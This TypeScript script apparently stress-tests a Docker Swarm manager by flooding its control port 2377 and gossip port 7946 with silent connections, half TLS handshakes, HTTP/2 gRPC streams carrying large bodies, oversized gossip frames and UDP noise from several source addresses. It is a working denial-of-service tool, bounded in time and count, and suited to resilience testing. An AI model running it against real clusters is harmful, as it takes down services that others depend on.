/**
 * `node strangers.ts HOST SECONDS FROM...`: what a host without a certificate can do to a manager, from a few
 * addresses, all at once and again and again: connections that say nothing, half a TLS handshake, HTTP/2 with large
 * bodies and many streams, silent and boastful gossip, packets of noise. Bounded in number and time; prints what it did
 * as one line of JSON.
 */
import { randomBytes } from "node:crypto";
import { createSocket } from "node:dgram";
import { type ClientHttp2Session, connect as connectHttp2 } from "node:http2";
import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";

const [host = "", seconds = "", ...addresses] = process.argv.slice(2);
const MANAGER_PORT = 2377;
const GOSSIP_PORT = 7946;
/** How often each kind is filled up again, and what it is filled up to. */
const TICK_MS = 50;
const SILENT = { max: 1_000, perTick: 20 };
const HALF_OPEN = { max: 200, perTick: 10 };
const BODIES = { max: 32, perTick: 2 };
const STREAMS_EACH = 200;
const BODY_BYTES = 16 * 1024 * 1024;
const GOSSIP_SILENT = { max: 500, perTick: 10 };
const GOSSIP_BOASTS = { max: 50, perTick: 5 };
const PACKETS_PER_TICK = 50;
const PACKET_BYTES = 1_400;

const body = Buffer.alloc(BODY_BYTES);
body.writeUInt32BE(BODY_BYTES - 5, 1);
const did = {
  silent: 0,
  halfOpen: 0,
  sessions: 0,
  streams: 0,
  gossipSilent: 0,
  gossipBoasts: 0,
  packets: 0,
  closed: 0,
};

let turn = 0;
const nextAddress = (): string => addresses[turn++ % addresses.length] ?? "0.0.0.0";

function dial(port: number): Socket {
  const socket = connect({ host, port, localAddress: nextAddress() });
  socket.on("error", () => {});
  socket.resume();
  return socket;
}

/** Keeps the number of connections of a kind constant for the whole time. */
function keep({ max, perTick }: { max: number; perTick: number }, open: () => Socket | ClientHttp2Session): () => void {
  let alive = 0;
  return () => {
    for (let made = 0; made < perTick && alive < max; made++) {
      alive++;
      open().once("close", () => {
        alive--;
        did.closed++;
      });
    }
  };
}

/** The first flight of a TLS client, cut in the middle. */
function halfHello(): Buffer {
  const hello = Buffer.alloc(100, 1);
  hello.set([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]);
  return hello;
}

function openBodies(): ClientHttp2Session {
  did.sessions++;
  const raw = connect({ host, port: MANAGER_PORT, localAddress: nextAddress() });
  raw.on("error", () => {});
  const socket = connectTls({ socket: raw, rejectUnauthorized: false, ALPNProtocols: ["h2"] });
  socket.on("error", () => {});
  const session = connectHttp2(`https://${host}:${MANAGER_PORT}`, {
    createConnection: () => socket,
    maxSessionMemory: 100,
  });
  session.on("error", () => {});
  session.once("connect", () => {
    for (let stream = 0; stream < STREAMS_EACH && !session.destroyed; stream++) {
      const path =
        stream % 2 === 0 ? "/swarm.v1.Control/CreateService" : "/swarm.v1.CertificateAuthority/IssueNodeCertificate";
      const call = session.request({
        ":method": "POST",
        ":path": path,
        "content-type": "application/grpc",
        te: "trailers",
      });
      call.on("error", () => {});
      call.resume();
      call.write(body.subarray(0, BODY_BYTES - 1));
      did.streams++;
    }
  });
  return session;
}

const kinds = [
  keep(SILENT, () => {
    did.silent++;
    return dial(MANAGER_PORT);
  }),
  keep(HALF_OPEN, () => {
    did.halfOpen++;
    const socket = dial(MANAGER_PORT);
    socket.write(halfHello());
    return socket;
  }),
  keep(BODIES, openBodies),
  keep(GOSSIP_SILENT, () => {
    did.gossipSilent++;
    return dial(GOSSIP_PORT);
  }),
  keep(GOSSIP_BOASTS, () => {
    did.gossipBoasts++;
    const socket = dial(GOSSIP_PORT);
    // It claims to be encrypted and to have 19 MiB.
    socket.write(Buffer.of(10, 0x01, 0x30, 0, 0));
    socket.write(body);
    return socket;
  }),
];
const noise = createSocket("udp4");
noise.on("error", () => {});
const packet = randomBytes(PACKET_BYTES);
setInterval(() => {
  for (const fillUp of kinds) fillUp();
  for (let sent = 0; sent < PACKETS_PER_TICK; sent++) noise.send(packet, GOSSIP_PORT, host);
  did.packets += PACKETS_PER_TICK;
}, TICK_MS);
setTimeout(() => {
  console.log(JSON.stringify(did));
  process.exit(0);
}, Number(seconds) * 1_000);
